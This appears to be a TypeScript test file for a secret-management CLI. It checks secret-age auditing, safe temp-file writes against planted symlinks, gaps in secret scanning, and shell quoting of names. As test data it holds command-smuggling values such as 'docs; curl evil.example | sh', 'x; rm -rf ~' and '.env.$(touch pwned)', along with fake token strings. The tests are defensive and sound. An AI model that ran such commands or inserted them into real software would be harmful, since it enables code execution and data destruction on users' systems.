import { execFileSync } from 'node:child_process';
import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { checkSourceSecrets } from '../../../src/cli/audit/project/check-source-secrets';
import { processDeps, type CliDeps, type Keychain } from '../../../src/cli/deps';
import { runCli } from '../../../src/cli/program';
import { SecretCatalog } from '../../../src/security/secrets';
import { missingSecretsMessage } from '../../../src/security/secrets/missing-secret-message';
import { shellQuote } from '../../../src/shell-quote';
import { FAKE } from '../../integration/cli/fake-secrets';

// Issue 18 item 10 (parts): secret ages that hide, the catalog's temp file, unreadable files, detection gaps,
// value-shaped secret names, and names printed into shell commands.

let dir: string;
let state: string;
let project: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'gov-hardening-'));
  state = join(dir, 'state');
  project = join(dir, 'project');
  mkdirSync(project);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const NOW = new Date('2026-06-01T00:00:00.000Z');

function put(file: string, content: string): string {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, content);
  return file;
}

function memoryKeychain(): Keychain & { values: Map<string, string> } {
  const values = new Map<string, string>();
  return {
    values,
    set: async (s, n, v) => void values.set(`${s}/${n}`, v),
    get: async (s, n) => values.get(`${s}/${n}`),
    delete: async (s, n) => values.delete(`${s}/${n}`),
  };
}

function deps(over: Partial<CliDeps> = {}) {
  const out: string[] = [];
  const err: string[] = [];
  const d: CliDeps = {
    ...processDeps(),
    cwd: dir,
    home: join(dir, 'home'),
    env: { PATH: process.env.PATH, SECURE_MCP_STATE_DIR: state },
    now: () => NOW,
    out: (l) => out.push(l),
    err: (l) => err.push(l),
    ...over,
  };
  return { d, out, err };
}

interface JsonFinding {
  id: string;
  severity: string;
  title: string;
  file?: string;
  line?: number;
  fix: string;
}

async function audit(): Promise<{ code: number; findings: JsonFinding[]; err: string[] }> {
  const { d, out, err } = deps();
  const code = await runCli(['audit', '--json', '--no-clients', '--project', project], d);
  const findings = out.length ? (JSON.parse(out.join('\n')) as { findings: JsonFinding[] }).findings : [];
  return { code, findings, err };
}

function catalogFile(secrets: object[]): void {
  put(join(state, 'secrets.json'), JSON.stringify({ version: 1, secrets }));
}

describe('secret ages that cannot be known', () => {
  it('reports a malformed or future rotatedAt instead of hiding the secret', async () => {
    catalogFile([
      {
        name: 'OLD',
        server: 's',
        createdAt: '2025-01-01T00:00:00.000Z',
        rotatedAt: '2025-01-01T00:00:00.000Z',
      },
      { name: 'MALFORMED', server: 's', createdAt: '2020-01-01T00:00:00.000Z', rotatedAt: 'soon' },
      { name: 'LOOSE', server: 's', createdAt: '2020-01-01T00:00:00.000Z', rotatedAt: '2026' },
      {
        name: 'FUTURE',
        server: 's',
        createdAt: '2020-01-01T00:00:00.000Z',
        rotatedAt: '2126-01-01T00:00:00.000Z',
      },
      { name: 'MISSING', server: 's', createdAt: '2020-01-01T00:00:00.000Z' },
      {
        name: 'FRESH',
        server: 's',
        createdAt: '2026-05-30T00:00:00.000Z',
        rotatedAt: '2026-05-30T00:00:00.000Z',
      },
    ]);
    const { findings } = await audit();
    const byName = (id: string) =>
      findings
        .filter((f) => f.id === id)
        .map((f) => /Secret (\w+)/.exec(f.title)![1])
        .sort();
    expect(byName('secret-stale')).toEqual(['OLD']);
    expect(byName('secret-date-invalid')).toEqual(['FUTURE', 'LOOSE', 'MALFORMED', 'MISSING']);
    const future = findings.find((f) => f.title.startsWith('Secret FUTURE'))!;
    expect(future.severity).toBe('medium');
    expect(future.title).toMatch(/in the future/);
  });
});

describe('the secret catalog temp file', () => {
  it('is never followed through a link planted at a guessable name', async () => {
    const victim = put(join(dir, 'victim.txt'), 'precious\n');
    mkdirSync(state, { mode: 0o700 });
    const file = join(state, 'secrets.json');
    // The old name was `<file>.<pid>.<Date.now()>.tmp`: plant links for the next few seconds of names.
    const start = Date.now();
    for (let t = start; t < start + 3000; t++) symlinkSync(victim, `${file}.${process.pid}.${t}.tmp`);
    const catalog = new SecretCatalog(state);
    await catalog.set('srv', 'API_KEY');
    await catalog.set('srv', 'OTHER_KEY');
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(lstatSync(file).isFile()).toBe(true);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect((await catalog.list()).map((r) => r.name)).toEqual(['API_KEY', 'OTHER_KEY']);
    const leftovers = readdirSync(state).filter(
      (n) => n.endsWith('.tmp') && !lstatSync(join(state, n)).isSymbolicLink(),
    );
    expect(leftovers).toEqual([]);
  });
});

describe('files the audit cannot read', () => {
  it('reports "could not read" and goes on with the rest of the audit', async () => {
    // Runs as root here, so permissions cannot make a file unreadable: a folder where a file is expected can.
    mkdirSync(join(project, '.gitignore'));
    put(join(project, '.env'), 'API_KEY=canary-value-not-a-real-secret\n');
    put(join(project, 'src', 'config.ts'), `export const key = '${FAKE.GITHUB}';\n`);
    const { code, findings, err } = await audit();
    expect(err).toEqual([]);
    expect(code).toBe(1);
    // .gitignore is read with the safe config reader: a folder there is a gap of the .env check.
    expect(findings.find((f) => f.id === 'scan-incomplete')?.title).toMatch(/\.gitignore is a directory/);
    expect(findings.find((f) => f.id === 'source-secret')?.file).toBe('src/config.ts');
  });

  it('the secret scan reports a file it cannot read and scans the next one', () => {
    const gone = { abs: join(project, 'gone.json'), rel: 'gone.json' };
    const folder = { abs: project, rel: 'folder.json' };
    const real = { abs: put(join(project, 'a.ts'), `const t = '${FAKE.GITHUB}';\n`), rel: 'a.ts' };
    const found = checkSourceSecrets([gone, folder, real]);
    expect(found.map((f) => `${f.id} ${f.file}`)).toEqual([
      'file-unreadable gone.json',
      'file-unreadable folder.json',
      'source-secret a.ts',
    ]);
    expect(found[0].title).toBe('Could not read gone.json (ENOENT): not scanned');
  });
});

describe('detection gaps are reported', () => {
  it('scans .npmrc and README, and says which files and lines were not scanned and why', async () => {
    const npmToken = ['npm', '_', 'FAKE', 'q7Vb4Nc8Kd2Lm9Xz', 'Rt5Wy3'].join('');
    put(
      join(project, '.npmrc'),
      `registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${npmToken}\n`,
    );
    put(join(project, 'README.md'), `# Demo\n\nexport GITHUB_TOKEN=${FAKE.GITHUB}\n`);
    put(join(project, 'src', 'long.ts'), `const a = 1;\nconst blob = '${'x'.repeat(2500)}${FAKE.GITHUB}';\n`);
    put(join(project, 'src', 'big.json'), JSON.stringify({ data: 'y'.repeat(1_100_000), key: FAKE.AWS }));
    const { findings } = await audit();
    const where = (id: string) =>
      findings
        .filter((f) => f.id === id)
        .map((f) => `${f.file}:${f.line ?? '-'}`)
        .sort();
    expect(where('source-secret')).toEqual(['.npmrc:2', 'README.md:3']);
    expect(where('file-not-scanned')).toEqual(['src/big.json:-', 'src/long.ts:2']);
    const titles = findings.filter((f) => f.id === 'file-not-scanned').map((f) => f.title);
    expect(titles).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^src\/big\.json not scanned for secrets: larger than 1 MB/),
        'src/long.ts (from line 2) not scanned for secrets: 1 line longer than 2,000 characters',
      ]),
    );
    expect(JSON.stringify(findings)).not.toContain(npmToken);
  });
});

describe('secrets set refuses a NAME that looks like a secret value', () => {
  it.each([
    ['a GitHub token', FAKE.GITHUB],
    ['an AWS key id', FAKE.AWS],
    ['a random string', FAKE.HIGH_ENTROPY],
    ['a long hex string', ['deadbeef', '0123abcd', '4567ef89'].join('')],
  ])('%s: refused, nothing stored, the name not echoed', async (_, name) => {
    const keychain = memoryKeychain();
    const { d, out, err } = deps({ keychain, readSecret: async () => 'canary-value-not-a-real-secret' });
    expect(await runCli(['secrets', 'set', name, '--server', 'srv'], d)).toBe(2);
    expect(err.join('\n')).toMatch(/looks like a secret value/);
    expect([...out, ...err].join('\n')).not.toContain(name);
    expect(keychain.values.size).toBe(0);
    expect(await new SecretCatalog(state).list()).toEqual([]);
  });

  it.each(['GITHUB_TOKEN', 'OPENAI_API_KEY_2024', 'dbPasswordV2', 'X509_CERT_PEM_B64'])(
    'accepts the ordinary name %s',
    async (name) => {
      const keychain = memoryKeychain();
      const { d } = deps({ keychain, readSecret: async () => 'canary-value-not-a-real-secret' });
      expect(await runCli(['secrets', 'set', name, '--server', 'srv'], d)).toBe(0);
      expect(keychain.values.size).toBe(1);
    },
  );
});

describe('names printed into shell commands are quoted', () => {
  it('shellQuote leaves plain names and single-quotes the rest', () => {
    expect(shellQuote('API_KEY')).toBe('API_KEY');
    expect(shellQuote('x; rm -rf ~')).toBe(`'x; rm -rf ~'`);
    expect(shellQuote(`it's $(id)`)).toBe(`'it'\\''s $(id)'`);
  });

  it('the secret-age fix quotes a server name from the catalog', async () => {
    catalogFile([
      {
        name: 'OLD',
        server: 'docs; curl evil.example | sh',
        createdAt: '2025-01-01T00:00:00.000Z',
        rotatedAt: '2025-01-01T00:00:00.000Z',
      },
    ]);
    const stale = (await audit()).findings.find((f) => f.id === 'secret-stale')!;
    expect(stale.fix).toBe(
      `Rotate it: secure-mcp secrets rotate OLD --server 'docs; curl evil.example | sh'`,
    );
  });

  it('the .env fix quotes the file name', async () => {
    const name = '.env.$(touch pwned)';
    put(join(project, name), 'A=b\n');
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
        cwd: project,
        stdio: 'pipe',
      });
    git('init', '-q');
    git('add', '--', name);
    git('commit', '-q', '-m', 'tracked env');
    const tracked = (await audit()).findings.find((f) => f.id === 'env-tracked')!;
    expect(tracked.fix).toMatch(/^git rm --cached -- '\.env\.\$\(touch pwned\)', add it/);
  });

  it('the missing-secret start-up message quotes the server name', () => {
    const message = missingSecretsMessage(
      [{ name: 'API_KEY', tools: ['T'], looked: ['environment variable API_KEY'] }],
      'my server',
    );
    expect(message).toContain(`npx secure-mcp secrets set API_KEY --server 'my server'`);
  });
});
